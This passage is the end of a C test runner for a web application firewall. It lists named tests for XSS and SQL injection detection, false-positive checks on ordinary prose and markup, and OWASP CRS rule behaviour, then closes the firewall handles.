	RUN(xss_in_a_form_field_is_blocked);
	RUN(a_json_member_deep_in_the_body_is_inspected);
	RUN(json_unicode_escapes_do_not_hide_an_injection);
	RUN(a_body_that_is_not_the_json_it_claims_is_inspected_whole);
	RUN(a_multipart_field_is_inspected);
	RUN(a_cookie_is_url_decoded_and_inspected);
	RUN(a_path_segment_is_inspected_with_its_encoded_slash_kept);
	RUN(a_double_encoded_value_is_decoded_twice);
	RUN(a_value_in_the_referer_query_is_inspected);
	RUN(prose_with_and_between_numbers_passes);
	RUN(compounds_languages_lists_and_quoted_attributes_pass_but_not_the_code_they_resemble);
	RUN(script_code_passes_but_not_code_that_runs_a_string_or_passes_a_dialog);
	RUN(signatures_search_syntax_json_and_entities_pass_but_not_the_sql_they_resemble);
	RUN(links_math_and_numbers_in_prose_pass);
	RUN(mail_paths_negation_attributes_and_css_pass_but_not_the_attacks_they_resemble);
	RUN(code_regexes_cut_selects_and_defaults_pass_but_not_the_sql_they_resemble);
	RUN(sql_words_in_prose_and_markdown_links_pass_but_not_sql_grammar);
	RUN(rich_text_with_inline_styles_passes_but_not_with_script_in_it);
	RUN(every_l7lab_rule_blocks_its_sample);
	RUN(other_headers_are_inspected_but_not_structured_ones);
	RUN(paranoia_2_also_inspects_unparsed_bodies);
	RUN(the_body_is_inspected_up_to_the_limit_and_no_further);
	RUN(the_verdict_does_not_change_when_asked_again);
	RUN(crs_names_the_attack_rule_not_the_anomaly_score_rule);
	RUN(crs_passes_a_plain_request);
	RUN(names_of_modes_and_actions);
	waf_close(l7lab);
	waf_close(crs);
	return t_done();
}
